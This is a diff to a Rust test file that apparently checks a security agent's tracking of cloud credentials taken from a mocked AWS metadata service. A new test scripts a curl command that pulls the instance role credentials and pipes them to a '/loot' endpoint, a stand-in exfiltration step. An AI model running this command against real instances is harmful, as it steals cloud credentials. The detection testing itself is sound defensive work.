@@ -18,9 +18,8 @@ until (: </dev/tcp/169.254.169.254/80) 2>/dev/null; do sleep 0.1; done
 while read -r line; do eval \"$line\" & wait $!; done";
 
 const SERVER: &str = "import http.server, json, os
-KEYS = json.dumps({'Code': 'Success', 'Type': 'AWS-HMAC', 'AccessKeyId': os.environ['ID'],
-  'SecretAccessKey': os.environ['SECRET'], 'Token': 'x' * 40, 'Expiration': '2036-01-01T00:00:00Z',
-  'LastUpdated': '2026-01-01T00:00:00Z'})
+KEYS = json.dumps({'Code': 'Success', 'Type': 'AWS-HMAC', **json.load(open(os.environ['KEY'])),
+  'Token': 'x' * 40, 'Expiration': '2036-01-01T00:00:00Z', 'LastUpdated': '2026-01-01T00:00:00Z'})
 ROLE = '/latest/meta-data/iam/security-credentials/'
 class Service(http.server.BaseHTTPRequestHandler):
   protocol_version = 'HTTP/1.1'
@@ -36,12 +35,22 @@ class Service(http.server.BaseHTTPRequestHandler):
     self.say('i-0123', 200)
 http.server.ThreadingHTTPServer(('0.0.0.0', 80), Service).serve_forever()";
 
-fn network() -> Background {
-    let key = plant::aws();
+/// What the service gives lies in a file that it alone reads: none of those who ask has it before.
+fn network(scratch: &Scratch) -> Background {
+    network_giving(scratch, &plant::aws())
+}
+
+fn network_giving(scratch: &Scratch, key: &plant::Planted) -> Background {
+    let file = scratch.join("given.json");
+    let id = key.identifier.as_ref().unwrap();
+    let text = format!(
+        "{{\"AccessKeyId\":\"{id}\",\"SecretAccessKey\":\"{}\"}}",
+        key.value
+    );
+    std::fs::write(&file, text).unwrap();
     act("unshare")
         .args(["--net", "bash", "-c", NETWORK, "bash", SERVER])
-        .env("ID", key.identifier.unwrap())
-        .env("SECRET", &key.value)
+        .env("KEY", &file)
         .limit(300)
         .spawn_listening()
 }
@@ -55,7 +64,7 @@ pub fn curl_asks_for_the_machines_role() {
     let _turn = turn();
     let scratch = Scratch::new();
     let agent = Agent::start(&scratch);
-    let mut network = network();
+    let mut network = network(&scratch);
     let root = network.pid();
     network.say(
         "T=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token); \
@@ -90,6 +99,46 @@ pub fn curl_asks_for_the_machines_role() {
     network.end();
 }
 
+/// What the service answers is known from then on, by whoever it was taken in, and found where it is sent to.
+pub fn what_is_answered_is_followed() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let key = plant::aws();
+    let mut network = network_giving(&scratch, &key);
+    let root = network.pid();
+    let asked = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web";
+    network.say(&format!(
+        "curl -s {asked} {asked} | (sleep 1; curl -s -d @- http://169.254.170.2/loot >/dev/null)"
+    ));
+    let is_it = |e: &Event| e.in_tree(root) && e.shows(&key);
+    let given = agent.expect("the answer", root, |e| {
+        is_it(e) && e.is("credential_received")
+    });
+    let text = given.brief();
+    assert_eq!((given.grade(), given.path()), ("observed", asked), "{text}");
+    assert!(given.executable().ends_with("/curl"), "{text}");
+    let sent = agent.expect("the send", root, |e| {
+        is_it(e) && e.is("credential_sent") && e.peer().0 == "169.254.170.2"
+    });
+    let text = sent.brief();
+    assert_eq!((sent.grade(), sent.path()), ("observed", asked), "{text}");
+    let way = &sent.evidence.as_ref().unwrap().path;
+    let how: Vec<&str> = way.iter().map(|step| step.how.as_str()).collect();
+    assert_eq!(how.first(), Some(&"received"), "{how:?}");
+    assert_eq!(how.last(), Some(&"pipe"), "{how:?}");
+    agent.settle();
+    let mut again = of_kind(&agent.tree(root), "credential_received");
+    again.retain(|e| is_it(e));
+    count(&again, 1, "answers");
+    // To ask again is no use of what was given before.
+    let to_service = |e: &Event| e.is("credential_sent") && e.peer().0 == "169.254.169.254";
+    let mut told = agent.tree(root);
+    told.retain(|e| to_service(e) && e.executable().ends_with("/curl"));
+    assert!(told.is_empty(), "{}", list(&told));
+    network.end();
+}
+
 /// The cloud's library in a service asks for the same, and nobody is accused.
 pub fn botocore_asks_for_the_machines_role() {
     let _turn = turn();
@@ -106,7 +155,7 @@ time.sleep(1)
 ",
     )
     .unwrap();
-    let mut network = network();
+    let mut network = network(&scratch);
     let root = network.pid();
     network.say(&format!(
         "HOME=/nowhere {} {}",
